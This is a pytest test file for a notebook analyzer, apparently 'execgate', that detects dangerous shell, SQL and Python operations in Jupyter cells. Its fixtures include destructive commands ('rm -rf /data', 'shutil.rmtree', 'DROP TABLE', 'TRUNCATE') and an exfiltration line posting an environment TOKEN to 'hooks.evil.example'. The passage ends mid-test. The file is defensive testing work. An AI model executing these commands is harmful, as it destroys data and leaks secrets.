"""The notebook front end on real notebooks written by nbformat.

Annotated fixtures (tests/fixtures/notebooks/*.ipynb, written by generate.py in
that folder) carry ``# ruleid:`` / ``# ok:`` comments inside their cells; the
other tests write notebooks with nbformat into a temporary folder and read
them back through the real front end, the engine and the command line.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from analyzer.records import replace
from pathlib import Path

import nbformat
import pytest
from nbformat import v3
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from analyzer.catalogue import load_catalogue
from analyzer.frontends import analyze
from analyzer.frontends.notebook import cells as notebook
from analyzer.frontends.notebook.jupysql import read_sql_magic
from analyzer.frontends.notebook.languages import kernel_language, plan
from analyzer.frontends.notebook.read import Cell, parse
from analyzer.model import Analysis, Location
from annotations import Expectation, check, expectations

FIXTURES = Path(__file__).parent / "fixtures" / "notebooks"
NOTEBOOKS = sorted(FIXTURES.glob("*.ipynb"))
PYTHON = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}
EXECGATE = Path(sys.executable).parent / "execgate"


def run(text: str, path: str = "nb.ipynb") -> Analysis:
    return analyze("notebook", text, Location(path))


def write(nb: nbformat.NotebookNode) -> str:
    return nbformat.writes(nb)


def code_notebook(*sources: str, metadata: dict | None = None) -> str:
    return write(new_notebook(cells=[new_code_cell(s) for s in sources], metadata=metadata or PYTHON))


def found(analysis: Analysis) -> set[tuple[str, int | None, int]]:
    return {(op.rule, op.location.cell, op.location.line) for op in analysis.operations}


# -- annotated fixtures ------------------------------------------------------------------------------


def annotations(text: str) -> list[Expectation]:
    """The ``# ruleid:`` / ``# ok:`` expectations written in a notebook's code cells."""
    nb = nbformat.reads(text, as_version=4)
    return [e for index, cell in enumerate(nb.cells) if cell.cell_type == "code"
            for e in expectations(cell.source, index)]


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.name)
def test_fixture_annotations(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    expected = annotations(text)
    assert any(e.kind == "ruleid" for e in expected) and any(e.kind == "ok" for e in expected)
    analysis = run(text, str(path))
    actual = {(op.rule, op.location.line, op.location.cell) for op in analysis.operations}
    assert check(expected, actual) == []
    assert analysis.errors == []


def test_every_notebook_rule_has_a_fixture_and_a_near_miss() -> None:
    """Rules of the notebook front end itself (``notebook.*``; none yet: magics and cells report the
    Python, shell and SQL rules) each need a detection and a near-miss in the annotated fixtures."""
    annotated = {(e.kind, e.rule) for path in NOTEBOOKS for e in annotations(path.read_text(encoding="utf-8"))}
    for rule_id in (r for r in load_catalogue().rules if r.startswith("notebook.")):
        assert ("ruleid", rule_id) in annotated, f"{rule_id} has no positive notebook fixture"
        assert ("ok", rule_id) in annotated, f"{rule_id} has no near-miss notebook fixture"


def test_every_fixture_rule_exists_in_the_catalogue() -> None:
    rules = load_catalogue().rules
    for path in NOTEBOOKS:
        for expected in annotations(path.read_text(encoding="utf-8")):
            assert expected.rule == "*" or expected.rule in rules, f"{path.name}: unknown rule {expected.rule}"


def test_fixtures_match_their_generator(tmp_path: Path) -> None:
    sys.path.insert(0, str(FIXTURES))
    try:
        import generate
    finally:
        sys.path.remove(str(FIXTURES))
    assert generate.main([str(tmp_path)]) == 0
    for path in NOTEBOOKS:
        assert (tmp_path / path.name).read_text(encoding="utf-8") == path.read_text(encoding="utf-8"), path.name
    assert sorted(p.name for p in tmp_path.glob("*.ipynb")) == [p.name for p in NOTEBOOKS]


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.name)
def test_file_line_is_the_ipynb_line_of_the_cell_line(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    file_lines = text.splitlines()
    cells = nbformat.reads(text, as_version=4).cells
    analysis = run(text, str(path))
    assert analysis.operations
    for op in analysis.operations:
        loc = op.location
        cell_line = cells[loc.cell].source.split("\n")[loc.line - 1]
        assert loc.file_line is not None
        assert json.dumps(cell_line)[1:-1] in file_lines[loc.file_line - 1], (loc, cell_line)
        assert loc.cell_id == cells[loc.cell].id


def test_scanner_reads_the_same_json_as_json_loads() -> None:
    for path in NOTEBOOKS:
        text = path.read_text(encoding="utf-8")
        assert parse(text)[0] == json.loads(text)


# -- magics and lines ----------------------------------------------------------------------------------


@pytest.mark.parametrize("source, rule, line", [
    ("x = 1\ny = 2\n!rm -rf /data", "shell.rm-recursive", 3),
    ("\n\n\nimport os\n!rm -rf /data", "shell.rm-recursive", 5),
    ("!rm -rf \\\n   /a\n!ls\n!rm -rf /b", "shell.rm-recursive", 4),
    ("if True:\n    out = !rm -rf /data\n", "shell.rm-recursive", 2),
    ("import os\nos.path?\n!rm -rf /data", "shell.rm-recursive", 3),
    ("x = %system ls\n%system rm -rf /data", "shell.rm-recursive", 2),
    ("%%bash\necho start\n\nrm -rf /data", "shell.rm-recursive", 4),
    ("\n%%sh\nrm -rf /data", "shell.rm-recursive", 3),
    ("%%script bash\nset -e\nrm -rf /data", "shell.rm-recursive", 3),
    ("%%sql sqlite://\nSELECT 1;\nDROP TABLE users;", "sql.drop-table", 3),
    ("x = 1\n%sql DROP TABLE users", "sql.drop-table", 2),
    ("%%writefile job.sh\necho hi\nrm -rf /data", "shell.rm-recursive", 3),
    ("%%writefile job.py\nimport shutil\nshutil.rmtree('/data')", "py.fs-delete-tree", 3),
    # Comment-only and blank lines above a cell magic: still the cell's magic (IPython's reading).
    ("# NBVAL_SKIP\n%%sh\nrm -rf /data", "shell.rm-recursive", 3),
    ("# a\n\n# b\n%%bash\necho start\nrm -rf /data", "shell.rm-recursive", 6),
    ("# clean up\n%%sql\nDROP TABLE users;", "sql.drop-table", 3),
    ("# exported from Databricks\n%sql\nDROP TABLE users", "sql.drop-table", 3),
])
def test_magic_reported_at_its_line_in_the_cell(source: str, rule: str, line: int) -> None:
    text = code_notebook("print('first cell')", source)
    assert (rule, 1, line) in found(run(text))


@pytest.mark.parametrize("source", [
    "!ls -la",
    "files = !ls /data",
    "%%bash\necho \"rm -rf /\"",
    "%sql SELECT * FROM t",
    "%%sql\nSELECT count(*) FROM orders WHERE day = '2024-01-01'",
    "%%writefile notes.txt\nrm -rf / and DROP TABLE users are what we never do",
    "%%html\n<p>rm -rf /</p>",
    "print('!rm -rf /')",
    "# !rm -rf /data",
    "# NBVAL_SKIP\n%%bash\nls -la\necho done",
    "# NBVAL_SKIP\n\n# count them\n%%sql\nSELECT count(*) FROM orders",
    "# notes only\n%md\nWe never DROP TABLE users here.",
])
def test_near_misses_stay_quiet(source: str) -> None:
    analysis = run(code_notebook(source))
    assert analysis.operations == [] and analysis.errors == []


def test_code_before_a_cell_magic_makes_it_no_magic() -> None:
    """IPython takes ``%%sh`` below Python code as a line magic: the body is Python, and here a
    syntax error, so the cell fails closed rather than being read as shell."""
    analysis = run(code_notebook("x = 1\n%%sh\nrm -rf '/data'"))
    assert [e.cell for e in analysis.errors] == [0]
    assert found(analysis) == set()


def test_comment_lines_above_a_magic_stay_comments() -> None:
    # A suppression written above the magic is still read (the comment lines are kept).
    source = "# NBVAL_SKIP\n# execgate: allow shell.rm-recursive -- scratch folder of this job\n%%sh\nls"
    analysis = run(code_notebook(source))
    assert [c.text.strip() for c in analysis.comments if "execgate" in c.text] == [
        "execgate: allow shell.rm-recursive -- scratch folder of this job"]


def test_markdown_and_raw_cells_are_ignored() -> None:
    nb = new_notebook(cells=[new_markdown_cell("!rm -rf /data\n\n%%bash\nrm -rf /"), new_raw_cell("rm -rf /"),
                             new_markdown_cell("```python\nshutil.rmtree('/')\n```")], metadata=PYTHON)
    analysis = run(write(nb))
    assert analysis.operations == [] and analysis.errors == []


def test_cell_index_counts_every_cell() -> None:
    nb = new_notebook(cells=[new_markdown_cell("intro"), new_code_cell("x = 1"), new_raw_cell("raw"),
                             new_code_cell("y = 2\n!rm -rf /data")], metadata=PYTHON)
    (op,) = run(write(nb)).operations
    assert (op.location.cell, op.location.line, op.location.cell_id) == (3, 2, nb.cells[3].id)


def test_notebook_without_ids_reports_no_cell_id_and_is_stable() -> None:
    nb = new_notebook(cells=[new_code_cell("!rm -rf /data")], metadata=PYTHON)
    nb.nbformat_minor = 4
    del nb.cells[0]["id"]
    text = write(nb)
    assert '"id"' not in text
    first, second = run(text), run(text)
    assert [op.location for op in first.operations] == [op.location for op in second.operations]
    assert first.operations[0].location.cell_id is None and first.errors == []


def test_minified_notebook_has_cell_lines_but_no_file_lines() -> None:
    nb = new_notebook(cells=[new_code_cell("x = 1\n!rm -rf /data")], metadata=PYTHON)
    text = json.dumps(nb, separators=(",", ":"))
    (op,) = run(text).operations
    assert (op.location.cell, op.location.line, op.location.file_line) == (0, 2, None)


def test_source_as_one_string() -> None:
    one_line = {"cells": [{"cell_type": "code", "execution_count": None, "id": "a", "metadata": {}, "outputs": [],
                           "source": "!rm -rf /data"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    text = json.dumps(one_line, indent=1)
    (op,) = run(text).operations
    assert op.location.file_line == next(i for i, line in enumerate(text.splitlines(), 1) if "rm -rf" in line)
    one_line["cells"][0]["source"] = "x = 1\n!rm -rf /data"
    (op,) = run(json.dumps(one_line, indent=1)).operations
    assert (op.location.line, op.location.file_line) == (2, None)


@pytest.mark.parametrize("source", [
    ",shutil.rmtree /data",        # IPython autocall: shutil.rmtree("/data")
    ";shutil.rmtree /data",
])
def test_autocall_escapes_are_read(source: str) -> None:
    assert ("py.fs-delete-tree", 0, 2) in found(run(code_notebook("import shutil\n" + source)))


@pytest.mark.parametrize("source", [
    "import os\nx = os.getcwd()\n",
    "def f(a):\n    return a % 3\n",
    "s = '!rm -rf /'\nt = \"%%bash\"\n",
    "x = [1,\n     2]\n",
])
def test_plain_python_skips_ipython_and_is_what_ipython_returns(source: str) -> None:
    from IPython.core.inputtransformer2 import TransformerManager

    assert notebook.to_python(source, 20000) == source == TransformerManager().transform_cell(source)


def test_continuation_lines_keep_later_lines_in_place() -> None:
    assert notebook.to_python("!rm -rf \\\n  /a \\\n  /b\nx = 1\n", 20000).split("\n")[3] == "x = 1"


def test_cell_with_many_escaped_lines_is_transformed_in_bounded_chunks() -> None:
    source = "\n".join(["!ls"] * 600 + ["x = 1"] * 50 + ["!rm -rf /data"])
    analysis = run(code_notebook(source))
    assert ("shell.rm-recursive", 0, 651) in found(analysis)
    assert analysis.errors == []


def test_transformation_failure_fails_that_cell_closed_and_goes_on() -> None:
    # IPython itself raises IndentationError on this cell; the kernel would not run it either.
    analysis = run(code_notebook("if x:\n    a = 1\n  b = 2\n!ls", "!rm -rf /data"))
    assert any(e.cell == 0 and e.message.startswith("cannot transform IPython syntax: IndentationError")
               for e in analysis.errors)
    assert ("shell.rm-recursive", 1, 1) in found(analysis)


def test_indented_block_with_too_much_ipython_syntax_fails_closed() -> None:
    source = "def f():\n" + "\n".join(["    !ls"] * 300)
    analysis = run(code_notebook(source, "!rm -rf /data"))
    assert [e.message for e in analysis.errors if e.cell == 0][0].startswith(
        "cannot transform IPython syntax: TransformBudgetError: too much IPython syntax")
    assert ("shell.rm-recursive", 1, 1) in found(analysis)


# -- bad input -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text, message", [
    ("", "not a notebook: the file is empty"),
    ("{\"cells\": [", "not a notebook: not JSON (Expecting value at line 1 column 12)"),
    ("import os\nos.system('rm -rf /')\n", "not a notebook: not JSON (Expecting value at line 1 column 1)"),
    ("[1, 2]", "not a notebook: the JSON is an array, not an object"),
    ("{\"nbformat\": 9, \"metadata\": {}}", "not a notebook: unsupported nbformat version 9"),
    ("{\"metadata\": {}}", "not a notebook: no nbformat version and no cells"),
    ("{\"nbformat\": 4, \"nbformat_minor\": 5, \"metadata\": {}, \"cells\": {}}", "not a notebook: no list of cells"),
])
def test_not_a_notebook_is_one_line(text: str, message: str) -> None:
    analysis = run(text)
    assert [e.display() for e in analysis.errors] == [f"nb.ipynb: {message}"]
    assert analysis.operations == []


def _raw_notebook(*cells: dict) -> dict:
    return {"cells": list(cells), "metadata": PYTHON, "nbformat": 4, "nbformat_minor": 5}


def _code(source: object, index: int) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": f"c{index}", "metadata": {}, "outputs": [],
            "source": source}


def test_missing_source_is_named_and_other_cells_are_analysed() -> None:
    cells = [_code("x = 1", 0), _code("y = 2", 1), _code("z = 3", 2), _code("", 3), _code("!rm -rf /data", 4)]
    del cells[3]["source"]
    analysis = run(json.dumps(_raw_notebook(*cells), indent=1))
    assert [e.display() for e in analysis.errors] == ["nb.ipynb:cell 3: missing source in cell 3"]
    assert found(analysis) == {("shell.rm-recursive", 4, 1)}


def test_schema_invalid_notebook_is_reported_and_still_analysed() -> None:
    bad = _code("x = 1", 0)
    bad["execution_count"] = "seven"
    analysis = run(json.dumps(_raw_notebook(bad, _code("!rm -rf /data", 1)), indent=1))
    (error,) = analysis.errors
    assert error.cell == 0 and error.message.startswith("not a valid nbformat 4 notebook at cells[0]")
    assert "\n" not in error.message
    assert found(analysis) == {("shell.rm-recursive", 1, 1)}


@pytest.mark.parametrize("cell, message", [
    ({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "id": "a", "source": 5},
     "the source of cell 0 is not text"),
    ({"cell_type": "program", "metadata": {}, "id": "a", "source": "!rm -rf /data"},
     "cell 0 has an unknown cell_type 'program'"),
    ("!rm -rf /data", "cell 0 is not an object"),
])
def test_unreadable_cells_are_named(cell: object, message: str) -> None:
    analysis = run(json.dumps(_raw_notebook(cell, _code("!rm -rf /other", 1)), indent=1))
    assert message in [e.message for e in analysis.errors]
    assert ("shell.rm-recursive", 1, 1) in found(analysis)


def test_unknown_cell_type_with_source_is_analysed_as_code() -> None:
    cell = {"cell_type": "program", "metadata": {}, "id": "a", "source": "!rm -rf /data"}
    assert ("shell.rm-recursive", 0, 1) in found(run(json.dumps(_raw_notebook(cell), indent=1)))


def test_v3_notebook_is_upgraded() -> None:
    old = v3.new_notebook(worksheets=[v3.new_worksheet(cells=[
        v3.new_text_cell("markdown", source="rm -rf / is bad"),
        v3.new_code_cell(input="import os\n!rm -rf /data"),
    ])], metadata={"name": "old"})
    text = nbformat.writes(old, version=3)
    assert json.loads(text)["nbformat"] == 3
    analysis = run(text)
    (op,) = analysis.operations
    assert (op.rule, op.location.cell, op.location.line, op.location.cell_id, op.location.file_line) == \
        ("shell.rm-recursive", 1, 2, None, None)
    assert analysis.errors == []


def test_broken_v3_notebook_is_one_line() -> None:
    (error,) = run(json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": [7]}]})).errors
    assert error.message.startswith("not a notebook: cannot upgrade nbformat 3 (")


def test_outputs_are_not_analysed_even_when_huge() -> None:
    cells = []
    for index in range(50):
        cell = new_code_cell(f"x{index} = {index}")
        cell.outputs = [new_output("stream", name="stdout", text="!rm -rf /data; " * 70_000),
                        new_output("display_data", data={"text/plain": "x = !rm -rf /" * 1000})]
        cells.append(cell)
    cells.append(new_code_cell("!rm -rf /data"))
    text = write(new_notebook(cells=cells, metadata=PYTHON))
    assert len(text) > 50_000_000
    analysis = run(text)
    assert found(analysis) == {("shell.rm-recursive", 50, 1)}
    assert analysis.errors == []


def test_many_empty_cells_complete() -> None:
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": []}
    text = json.dumps({"cells": [cell] * 5000 + [dict(cell, source=["!rm -rf /data"])], "metadata": {},
                       "nbformat": 4, "nbformat_minor": 4})
    analysis = run(text)
    assert found(analysis) == {("shell.rm-recursive", 5000, 1)} and analysis.errors == []


def test_too_many_cells_fail_closed_after_the_first_ones(monkeypatch: pytest.MonkeyPatch) -> None:
    lowered = replace(notebook.knowledge(), max_cells=50)
    monkeypatch.setattr(notebook, "knowledge", lambda: lowered)
    text = code_notebook(*[f"!rm -rf /data/{i}" for i in range(200)])
    analysis = run(text)
    assert [e.message for e in analysis.errors] == [
        "too many cells (200; the limit is 50): only the first 50 analysed"]
    assert {cell for _, cell, _ in found(analysis)} == set(range(50))


# -- kernels -------------------------------------------------------------------------------------------


def _kernel(language: str, name: str | None = None) -> dict:
    return {"kernelspec": {"display_name": language, "language": language, "name": name or language}}


@pytest.mark.parametrize("metadata, source, rule", [
    (_kernel("sql", "xsql"), "SELECT 1;\nDROP TABLE users;", "sql.drop-table"),
    ({"language_info": {"name": "PostgreSQL"}}, "TRUNCATE TABLE audit_log;", "sql.truncate"),
    (_kernel("snowflake"), "DROP SCHEMA analytics;", "sql.drop-schema"),
    (_kernel("bash"), "cd /srv\nrm -rf /data", "shell.rm-recursive"),
    (_kernel("python", "conda-env-ml-py"), "import shutil\nshutil.rmtree('/data')", "py.fs-delete-tree"),
    ({}, "!rm -rf /data", "shell.rm-recursive"),
])
def test_kernel_language_picks_the_front_end(metadata: dict, source: str, rule: str) -> None:
    analysis = run(code_notebook("", source, metadata=metadata))
    assert rule in {op.rule for op in analysis.operations}
    assert all(op.location.cell == 1 for op in analysis.operations)
    assert analysis.errors == []


@pytest.mark.parametrize("metadata, source", [
    (_kernel("sql", "xsql"), "SELECT * FROM users WHERE id = 3;"),
    (_kernel("bash"), "ls -la /data\necho 'rm -rf /'"),
])
def test_kernel_near_misses(metadata: dict, source: str) -> None:
    analysis = run(code_notebook(source, metadata=metadata))
    assert analysis.operations == [] and analysis.errors == []


def test_sql_kernel_dialect_comes_from_the_catalogue() -> None:
    k = notebook.knowledge()
    assert kernel_language(_kernel("sql", "snowflake"), k) == ("sql", "sql", "snowflake")
    assert kernel_language({"kernelspec": {"name": "xsql"}}, k) == ("sql", "xsql", None)
    assert kernel_language({"kernelspec": "python3"}, k) == ("python", "", None)


@pytest.mark.parametrize("language", ["R", "julia", "scala"])
def test_other_kernels_are_not_analysed(language: str) -> None:
    nb = new_notebook(cells=[new_markdown_cell("rm -rf"), new_code_cell("unlink('/data', recursive = TRUE)"),
                             new_code_cell("x <- 1")], metadata=_kernel(language))
    analysis = run(write(nb))
    assert [e.display() for e in analysis.errors] == [f"nb.ipynb: kernel {language.lower()} not analysed"]
    assert analysis.operations == []


def test_other_kernel_without_code_is_quiet() -> None:
    nb = new_notebook(cells=[new_markdown_cell("notes"), new_code_cell("")], metadata=_kernel("R"))
    assert run(write(nb)).errors == []


# -- cell languages -------------------------------------------------------------------------------------

MYSTERY = {"kernelspec": {"display_name": "Mystery", "name": "mystery"}}
SNOWFLAKE = {"kernelspec": {"display_name": "Streamlit Notebook", "name": "streamlit"}}


def _cells_notebook(*cells: tuple[str, dict], metadata: dict = MYSTERY) -> str:
    return write(new_notebook(cells=[new_code_cell(source, metadata=meta) for source, meta in cells],
                              metadata=metadata))


@pytest.mark.parametrize("metadata", [
    {"language": "sql", "name": "cell1"},                              # Snowflake Notebooks
    {"vscode": {"languageId": "sql"}},                                 # VS Code
    {"application/vnd.databricks.v1+cell": {"language": "sql"}},       # Databricks
    {"microsoft": {"language": "sparksql", "language_group": "synapse_pyspark"}},   # Fabric
    {"polyglot_notebook": {"kernelName": "sql"}, "vscode": {"languageId": "polyglot-notebook"}},   # .NET Polyglot
], ids=["language", "vscode", "databricks", "fabric", "polyglot"])
def test_a_cell_is_read_in_the_language_its_metadata_names(metadata: dict) -> None:
    quiet = run(_cells_notebook(("SELECT * FROM orders WHERE id = 3;", metadata)))
    assert quiet.operations == [] and quiet.errors == []
    loud = run(_cells_notebook(("SELECT 1;\nDROP TABLE orders;", metadata)))
    assert found(loud) == {("sql.drop-table", 0, 2)} and loud.errors == []


@pytest.mark.parametrize("language, source, rule", [
    ("python", "import shutil\nshutil.rmtree('/data')", "py.fs-delete-tree"),
    ("shellscript", "cd /srv\nrm -rf /data", "shell.rm-recursive"),
    ("sql", "TRUNCATE TABLE audit_log;", "sql.truncate"),
])
def test_each_cell_language_goes_to_its_front_end(language: str, source: str, rule: str) -> None:
    analysis = run(_cells_notebook(("SELECT 1;", {"language": "sql"}), (source, {"vscode": {"languageId": language}})))
    assert {op.rule for op in analysis.operations} == {rule} and analysis.errors == []


def test_a_text_cell_never_runs_but_the_same_text_in_python_does() -> None:
    source = "!rm -rf /data"
    quiet = run(_cells_notebook((source, {"vscode": {"languageId": "markdown"}}), ("SELECT 1;", {"language": "sql"})))
    assert quiet.operations == [] and quiet.errors == []
    loud = run(_cells_notebook((source, {"vscode": {"languageId": "python"}}), ("SELECT 1;", {"language": "sql"})))
    assert found(loud) == {("shell.rm-recursive", 0, 1)}


def test_a_cell_in_a_language_execgate_does_not_read_is_named_and_fails_closed() -> None:
    analysis = run(_cells_notebook(("spark.sql(\"DROP TABLE t\").show()", {"language": "scala"}),
                                   ("DROP TABLE orders;", {"language": "sql"})))
    assert [e.display() for e in analysis.errors] == [
        "nb.ipynb:cell 0:1: scala cell not analysed (only Python, SQL and shell are)"]
    assert found(analysis) == {("sql.drop-table", 1, 1)}


def test_a_cell_naming_no_language_is_read_in_the_languages_the_notebook_names() -> None:
    both = ("SELECT 1;", {"language": "sql"}), ("x = 1", {"language": "python"})
    quiet = run(_cells_notebook(*both, ("total = 2 * 21", {}), metadata=SNOWFLAKE))
    assert quiet.operations == [] and quiet.errors == []
    loud = run(_cells_notebook(*both, ("DROP TABLE analytics.events;", {}), metadata=SNOWFLAKE))
    assert found(loud) == {("sql.drop-table", 2, 1)} and loud.errors == []
    loud = run(_cells_notebook(*both, ("import shutil\nshutil.rmtree('/data')", {}), metadata=SNOWFLAKE))
    assert found(loud) == {("py.fs-delete-tree", 2, 2)} and loud.errors == []


def test_a_cell_readable_in_none_of_the_notebooks_languages_fails_closed() -> None:
    analysis = run(_cells_notebook(("SELECT 1;", {"language": "sql"}), ("x = 1", {}), metadata=SNOWFLAKE))
    assert [(e.cell, e.message) for e in analysis.errors] == [
        (1, "the cell names no language and reads as none of the notebook's (sql): not analysed")]


def test_an_unknown_kernel_whose_cells_name_nothing_is_not_analysed() -> None:
    analysis = run(_cells_notebook(("x = 1", {}), metadata=SNOWFLAKE))
    assert [e.display() for e in analysis.errors] == ["nb.ipynb: kernel streamlit not analysed"]


def test_a_python_kernel_runs_every_cell_whatever_its_metadata_says() -> None:
    # Jupyter sends each cell to the kernel: an IPython kernel reads "!rm" as shell, not SQL.
    analysis = run(_cells_notebook(("!rm -rf /data", {"vscode": {"languageId": "sql"}}), metadata=PYTHON))
    assert found(analysis) == {("shell.rm-recursive", 0, 1)} and analysis.errors == []


def test_a_leading_magic_names_the_cell_language_in_a_sql_notebook() -> None:
    databricks = {"application/vnd.databricks.v1+notebook": {"language": "sql"}, "language_info": {"name": "sql"}}
    analysis = run(_cells_notebook(("%scala\nspark.sql(\"DROP TABLE t\")", {}), ("%sh\nrm -rf /dbfs/tmp/x", {}),
                                   ("SELECT 1", {}), metadata=databricks))
    assert [(e.cell, e.message) for e in analysis.errors] == [
        (0, "scala cell not analysed (only Python, SQL and shell are)")]
    assert found(analysis) == {("shell.rm-recursive", 1, 2)}


@pytest.mark.parametrize("metadata, dialect", [
    (SNOWFLAKE, "snowflake"),
    ({"application/vnd.databricks.v1+notebook": {"language": "sql"}, "language_info": {"name": "sql"}}, "databricks"),
    (_kernel("sql", "xsql"), None),
])
def test_sql_cells_take_the_products_dialect(metadata: dict, dialect: str | None) -> None:
    nb = nbformat.reads(_cells_notebook(("SELECT 1", {"language": "sql"}), metadata=metadata), as_version=4)
    cells = [Cell(0, "code", "SELECT 1", metadata=nb.cells[0].metadata)]
    readings, problem = plan(nb.metadata, cells, notebook.knowledge())
    assert [(r.languages, r.dialect) for r in readings] == [(("sql",), dialect)] and problem is None


# -- jupysql's grammar ----------------------------------------------------------------------------------


@pytest.mark.parametrize("line, body, sql, connection, result", [
    ("engine", "", "", "engine", None),
    ("duckdb://", "", "", "duckdb://", None),
    ("postgresql+psycopg2://me@db/prod SELECT 1", "", "SELECT 1", "postgresql+psycopg2://me@db/prod", None),
    ("--connections", "", "", None, None),
    ("-l", "", "", None, None),
    ("--close duck", "", "", None, None),
    ("--save recent --no-execute SELECT * FROM t", "", "SELECT * FROM t", None, None),
    ("--save=recent -N SELECT * FROM t", "", "SELECT * FROM t", None, None),
    ("--with recent SELECT count(*) FROM recent", "", "SELECT count(*) FROM recent", None, None),
    ("rows << SELECT * FROM t", "", "SELECT * FROM t", None, "rows"),
    ("rows<<SELECT 1", "", "SELECT 1", None, "rows"),
    ("rows = << SELECT 1", "", "SELECT 1", None, "rows"),
    ("SELECT 1 -- --save is part of the comment", "", "SELECT 1 -- --save is part of the comment", None, None),
    ("COMMIT", "", "COMMIT", None, None),
    ("SELECT * FROM {{table}} WHERE d = {day}", "", "SELECT * FROM {{table}} WHERE d = {day}", None, None),
    ("{conn} DROP TABLE t", "", "DROP TABLE t", "{conn}", None),
    ("$DATABASE_URL", "", "", "$DATABASE_URL", None),
    ("engine", "SELECT 1", "SELECT 1", "engine", None),
    ("--save big -N", "SELECT 1", "SELECT 1", None, None),
    ("", "me@db\nDELETE FROM t WHERE id = 1", "DELETE FROM t WHERE id = 1", "me@db", None),
    ("sqlite:// rows <<", "SELECT 1", "SELECT 1", "sqlite://", "rows"),
])
def test_jupysql_line_leaves_only_the_sql(line: str, body: str, sql: str, connection: str | None,
                                          result: str | None) -> None:
    magic = read_sql_magic(line, body)
    assert " ".join((magic.line_sql + " " + magic.body_sql).split()) == sql
    assert (magic.connection, magic.result) == (connection, result)
    assert len(magic.line_sql) == len(line) and len(magic.body_sql) == len(body)   # places kept


def test_jupysql_persist_replace_and_file_are_reported() -> None:
    analysis = run(code_notebook("df = load()\n%sql --persist df\n%sql --persist-replace df\n%sql --file q.sql"))
    assert found(analysis) == {("py.dataframe-replace-table", 0, 3), ("py.evasion-dynamic-exec", 0, 4)}
    assert analysis.errors == []


# -- nbformat 4 notebooks that fail strict validation ---------------------------------------------------


def _without(cell: dict, *keys: str) -> dict:
    return {key: value for key, value in cell.items() if key not in keys}


@pytest.mark.parametrize("notebook_json, repaired", [
    (_raw_notebook(_without(_code("!rm -rf /data", 0), "outputs")), "cells[0]: missing 'outputs' added"),
    (_raw_notebook(_without(_code("!rm -rf /data", 0), "execution_count")),
     "cells[0]: missing 'execution_count' added"),
    (_raw_notebook(_without(_code("!rm -rf /data", 0), "metadata")), "cells[0]: missing 'metadata' added"),
    (_raw_notebook({"cell_type": "markdown", "id": "m", "metadata": {}, "source": "# T", "outputs": [],
                    "execution_count": None}, _code("!rm -rf /data", 1)),
     "cells[0]: stray 'execution_count', 'outputs' removed"),
    (dict(_raw_notebook(_code("!rm -rf /data", 0)), jupytext={"formats": "ipynb,py"}), "notebook: stray 'jupytext'"),
    (dict(_raw_notebook(_code("!rm -rf /data", 0)), metadata={"kernelspec": {"name": "python3", "language": "python"}}),
     "metadata.kernelspec: removed ('display_name' is a required property)"),
    (_raw_notebook(dict(_code("!rm -rf /data", 0), metadata={"collapsed": "false"})),
     "cells[0].metadata.collapsed: removed"),
    (_raw_notebook(dict(_code("!rm -rf /data", 0), id="cell 1 (copy)")), "cells[0].id: invalid id replaced"),
    (_without(_raw_notebook(_code("!rm -rf /data", 0)), "nbformat_minor"), "nbformat_minor: missing"),
], ids=["outputs", "execution_count", "metadata", "stray-cell-keys", "stray-top-key", "kernelspec", "cell-metadata",
        "id", "minor"])
def test_what_nbformat_repairs_is_repaired_with_a_note(notebook_json: dict, repaired: str) -> None:
    text = json.dumps(notebook_json, indent=1)
    analysis = run(text)
    assert analysis.errors == []
    assert "shell.rm-recursive" in {op.rule for op in analysis.operations}   # the dangerous cell still blocks
    (note,) = analysis.notes
    assert note.message.startswith("repaired as Jupyter opens it") and repaired in note.message


def test_a_repair_never_hides_an_unrepairable_problem() -> None:
    cell = _without(_code("x = 1", 0), "outputs")
    cell["execution_count"] = "seven"
    analysis = run(json.dumps(_raw_notebook(cell, _code("!rm -rf /data", 1)), indent=1))
    assert [(e.cell, e.message) for e in analysis.errors] == [
        (0, "not a valid nbformat 4 notebook at cells[0].execution_count: 'seven' is not of type 'integer', 'null'")]
    assert found(analysis) == {("shell.rm-recursive", 1, 1)}


# -- order of the cells --------------------------------------------------------------------------------


def _counted(source: str, count: int | None):
    cell = new_code_cell(source)
    cell.execution_count = count
    return cell


def test_recorded_execution_order_adds_what_only_it_shows() -> None:
    cells = [_counted("import os, requests", 1),
             _counted("requests.post('https://hooks.evil.example/x', data=secret)", 3),
             _counted("secret = os.environ['TOKEN']", 2)]
    (op,) = run(write(new_notebook(cells=cells, metadata=PYTHON))).operations
    assert (op.rule, op.location.cell) == ("py.exfil-request", 1)
    assert "TOKEN" in (op.detail("source") or "")


def test_file_order_when_counts_are_missing_or_repeated() -> None:
    for counts in ((1, None, 2), (1, 2, 2)):
        cells = [_counted("import os, requests", counts[0]),
                 _counted("requests.post('https://hooks.evil.example/x', data=secret)", counts[1]),
                 _counted("secret = os.environ['TOKEN']", counts[2])]
        (op,) = run(write(new_notebook(cells=cells, metadata=PYTHON))).operations
        assert op.rule == "py.exfil-request" and op.detail("source") is None


# -- end to end through the command line ---------------------------------------------------------------


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, EXECGATE_ENV="dev", NO_COLOR="1")
    return subprocess.run([str(EXECGATE), *args], cwd=cwd, capture_output=True, text=True, env=env, timeout=120)


def test_cli_json_and_text_report_the_cell(tmp_path: Path) -> None:
    nb = new_notebook(cells=[new_markdown_cell("# Title"), new_code_cell("import os"), new_code_cell("x = 1"),
                             new_markdown_cell("cleanup:"), new_code_cell("print('cleanup')\n!rm -rf /data")],
                      metadata=PYTHON)
    nbformat.write(nb, str(tmp_path / "nb.ipynb"))
    done = _cli("check", "nb.ipynb", "--format", "json", cwd=tmp_path)
    report = json.loads(done.stdout)
    (finding,) = [f for f in report["findings"] if f["rule"] == "shell.rm-recursive"]
